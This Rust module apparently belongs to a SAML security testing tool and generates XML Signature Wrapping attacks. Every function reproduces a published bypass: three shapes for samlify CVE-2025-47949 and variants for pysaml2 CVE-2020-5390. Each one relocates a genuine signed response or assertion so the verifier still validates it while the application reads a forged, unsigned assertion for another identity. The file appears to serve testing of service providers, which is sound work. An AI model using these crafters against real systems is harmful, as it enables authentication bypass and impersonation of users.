//! Signature wrapping as published against real libraries, beyond SAML Raider's XSW1–8:
//! the signed original moved where the library's verifier still finds it by ID while its
//! business logic reads the forged assertion in the usual place. Each shape is the one
//! that fooled the named release in the lab (`lab/pairs/`); all stay schema-valid.

use trust_framework::saml::constants::{NS_DSIG, NS_PROTOCOL};

use super::{Crafted, Ctx};
use crate::message::{self, new_id, Signing};
use crate::splice::{self, without_signature};
use crate::CraftError;

/// An unsigned assertion for the forged identity, with a fresh ID.
fn forged_assertion(c: &Ctx<'_>) -> String {
    message::assertion(&c.golden.knobs(&c.forged), "")
}

/// A Response around `inner` with `signature` (raw, already made) after its Issuer, a
/// fresh ID, and `detail` (raw) in its Status.
fn outer(c: &Ctx<'_>, signature: &str, detail: &str, inner: &str) -> Result<String, CraftError> {
    let mut k = c.golden.knobs(&c.forged);
    k.response_id = new_id();
    let xml = message::response(&k, signature, inner);
    if detail.is_empty() {
        return Ok(xml);
    }
    let status = splice::range(&xml, NS_PROTOCOL, "Status", None)?;
    let at = status.start + splice::before_end_tag(&xml[status.clone()])?;
    Ok(splice::insert(
        &xml,
        at,
        &format!("<samlp:StatusDetail>{detail}</samlp:StatusDetail>"),
    ))
}

/// The IdP's Response signed per `signing` for the test's identity, split into its own
/// Signature and the rest.
fn signed_response_split(c: &Ctx<'_>, signing: Signing) -> Result<(String, String), CraftError> {
    let xml = message::build(&c.knobs(), signing, &c.spec())?;
    let sig = splice::response_signature_range(&xml)?;
    Ok((xml[sig.clone()].to_owned(), splice::replace(&xml, sig, "")))
}

/// samlify CVE-2025-47949 (GHSA-r683-v43c-6xqv), shape A: the Response's signature moved
/// to a new root; the signed Response, without it, in the root's StatusDetail (where the
/// verifier finds its ID); the root's own Assertion forged and unsigned.
pub fn status_detail(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
    let (sig, rest) = signed_response_split(c, signing)?;
    let xml = outer(c, &sig, &rest, &forged_assertion(c))?;
    Ok(Crafted::of(xml).claiming(&c.forged))
}

/// samlify CVE-2025-47949, shape B: as shape A, the signed Response in the forged
/// Assertion's Advice (after its Conditions, where the schema allows Advice).
pub fn advice(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let (sig, rest) = signed_response_split(c, Signing::Response)?;
    let forged = forged_assertion(c);
    let at = forged
        .find("<saml:AuthnStatement")
        .ok_or_else(|| CraftError("no AuthnStatement".into()))?;
    let forged = splice::insert(&forged, at, &format!("<saml:Advice>{rest}</saml:Advice>"));
    Ok(Crafted::of(outer(c, &sig, "", &forged)?).claiming(&c.forged))
}

/// samlify CVE-2025-47949, shape C: the assertion-only signature moved to the Response;
/// the signed Assertion, without it, in `samlp:Extensions`; a forged unsigned Assertion
/// in its place.
pub fn extensions(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let signed = message::signed_assertion(&c.knobs(), &c.spec())?;
    let sig = splice::range(&signed, NS_DSIG, "Signature", None)?;
    let signature = signed[sig.clone()].to_owned();
    let clean = splice::replace(&signed, sig, "");
    let xml = outer(c, &signature, "", &forged_assertion(c))?;
    let status = splice::range(&xml, NS_PROTOCOL, "Status", None)?;
    let ext = format!("<samlp:Extensions>{clean}</samlp:Extensions>");
    Ok(Crafted::of(splice::insert(&xml, status.start, &ext)).claiming(&c.forged))
}

/// pysaml2 CVE-2020-5390 (fixture `tests/saml2_response_xsw.xml`, IdentityPython/pysaml2
/// 5e9d5acb): the signed Assertion edited in place (forged identity, new ID, its Signature
/// kept, so the signature is no longer enveloped); the clean signed copy (original ID,
/// no Signature) not as a second Assertion of the Response but inside a foreign element
/// after it (`in_extensions`: inside `samlp:Extensions` after the Issuer instead).
pub fn not_enveloped(c: &Ctx<'_>, in_extensions: bool) -> Result<Crafted, CraftError> {
    let xml = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
    let a = splice::assertion_range(&xml)?;
    let original = &xml[a.clone()];
    let clean = without_signature(original)?;
    let forged =
        splice::set_root_attribute(&splice::set_name_id(original, &c.forged)?, "ID", &new_id())?;
    let xml = if in_extensions {
        let edited = splice::replace(&xml, a, &forged);
        let status = splice::range(&edited, NS_PROTOCOL, "Status", None)?;
        let ext = format!("<samlp:Extensions>{clean}</samlp:Extensions>");
        splice::insert(&edited, status.start, &ext)
    } else {
        splice::replace(
            &xml,
            a,
            &format!("{forged}<XSW_ATTACK>{clean}</XSW_ATTACK>"),
        )
    };
    Ok(Crafted::of(xml).claiming(&c.forged))
}
